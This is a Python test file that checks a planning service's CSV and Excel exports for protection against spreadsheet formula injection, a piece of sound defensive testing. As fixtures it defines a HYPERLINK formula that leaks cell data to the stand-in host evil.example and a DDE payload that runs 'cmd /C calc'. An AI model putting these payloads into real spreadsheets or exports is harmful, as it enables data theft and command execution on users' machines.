"""Exports open as data, never as formulas: CSV and XLSX downloads of plans, forecast CSV, plan files on disk."""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, insert

from service.auth import create_key
from service.db.tables import Forecast, ForecastSet, Plan, PlanLine
from service.main import create_app
from service.spreadsheet_safety import excel_writer, neutralise, neutralise_frame, to_csv_bytes
from tests.service.api.conftest import auth, settings_for

EVIL_SKU = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
EVIL_SUPPLIER = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("A=1", "A=1"),
        ("", ""),
        (-1.5, -1.5),
        (3, 3),
        (None, None),
    ],
)
def test_neutralise_one_cell(value: object, expected: object) -> None:
    assert neutralise(value) == expected


def test_frames_keep_numbers_and_untouched_frames_are_not_copied() -> None:
    frame = pd.DataFrame({"sku": ["A-1", "=cmd|x"], "qty": [-3.0, 2.0], "when": pd.to_datetime(["2024-01-01"] * 2)})
    safe = neutralise_frame(frame)
    assert safe["sku"].tolist() == ["A-1", "'=cmd|x"] and safe["qty"].tolist() == [-3.0, 2.0]
    assert safe["when"].dtype == frame["when"].dtype and frame["sku"].iloc[1] == "=cmd|x"
    clean = frame.iloc[:1]
    assert neutralise_frame(clean) is clean
    assert to_csv_bytes(frame).decode().splitlines()[2] == "'=cmd|x,2.0,2024-01-01"


def test_workbooks_hold_values_only(tmp_path: Path) -> None:
    path = tmp_path / "book.xlsx"
    with excel_writer(path) as writer:
        pd.DataFrame({"sku": [EVIL_SKU, "http://evil.example", "0012"], "qty": [-1, 2, 3]}).to_excel(
            writer, sheet_name="lines", index=False
        )
    sheet = openpyxl.load_workbook(path)["lines"]
    cells = [(c.value, c.data_type) for c in sheet["A"][1:]]
    assert cells == [("'" + EVIL_SKU, "s"), ("http://evil.example", "s"), ("0012", "s")]
    assert sheet["B2"].value == -1 and sheet["B2"].data_type == "n"
    assert sheet["A3"].hyperlink is None


# --- end to end: a plan and a forecast whose SKU and supplier are formulas ----------------------------------------


PLAN = "rp-hostile"


def _store_hostile(engine: Engine) -> None:
    """A done plan and a published forecast whose first SKU and supplier are formulas."""
    split = {"supplier_id": EVIL_SUPPLIER, "qty": 5.0, "explanation": "=1+1"}
    with engine.begin() as conn:
        conn.execute(insert(Plan).values(id=PLAN, status="done", as_of=dt.date(2024, 1, 1), params={}, summary={}))
        conn.execute(
            insert(PlanLine),
            [
                {"plan_id": PLAN, "sku": EVIL_SKU, "supplier_id": EVIL_SUPPLIER, "order_qty": 5.0, "reason": "-x",
                 "details": {"splits": [split]}},
                {"plan_id": PLAN, "sku": "A-2", "supplier_id": "S-1", "order_qty": 0.0, "reason": "", "details": {}},
            ],
        )  # fmt: skip
        conn.execute(insert(ForecastSet).values(model_version="1", model_name="m", status="published"))
        conn.execute(
            insert(Forecast),
            [
                {"model_version": "1", "sku": sku, "date": dt.date(2024, 2, 1), "horizon": 1, "mean": -0.0,
                 "quantiles": {"q0.5": 1.0}, "cum_quantiles": None}
                for sku in (EVIL_SKU, "+A-3", "A-2")
            ],
        )  # fmt: skip


@pytest.fixture
def hostile(engine: Engine, tmp_path: Path) -> Iterator[tuple[TestClient, dict[str, str], str]]:
    _store_hostile(engine)
    app = create_app(settings_for(engine, tmp_path / "home"), engine)
    key = create_key(engine, "planner", "exporter")[1]
    with TestClient(app, raise_server_exceptions=False) as client:
        yield client, auth(key), PLAN


def test_plan_csv_and_xlsx_downloads_are_neutralised(hostile: tuple[TestClient, dict[str, str], str]) -> None:
    client, headers, plan_id = hostile
    csv = client.get(f"/v1/plans/{plan_id}/replenishment?format=csv", headers=headers)
    assert csv.status_code == 200
    frame = pd.read_csv(io.BytesIO(csv.content), dtype=str)
    evil = frame[frame["sku"].str.contains("HYPERLINK")]
    assert evil["sku"].tolist() == ["'" + EVIL_SKU] and evil["supplier_id"].tolist() == ["'" + EVIL_SUPPLIER]
    xlsx = client.get(f"/v1/plans/{plan_id}/replenishment?format=xlsx", headers=headers)
    assert xlsx.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(xlsx.content))
    formulas = [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert "'" + EVIL_SKU in texts and not any(t.startswith(("=", "@")) for t in texts)


def test_forecast_csv_is_neutralised(hostile: tuple[TestClient, dict[str, str], str]) -> None:
    client, headers, _ = hostile
    r = client.get("/v1/forecasts?format=csv&limit=1000", headers=headers)
    assert r.status_code == 200
    skus = pd.read_csv(io.BytesIO(r.content), dtype=str)["sku"]
    assert set(skus) == {"'" + EVIL_SKU, "'+A-3", "A-2"}
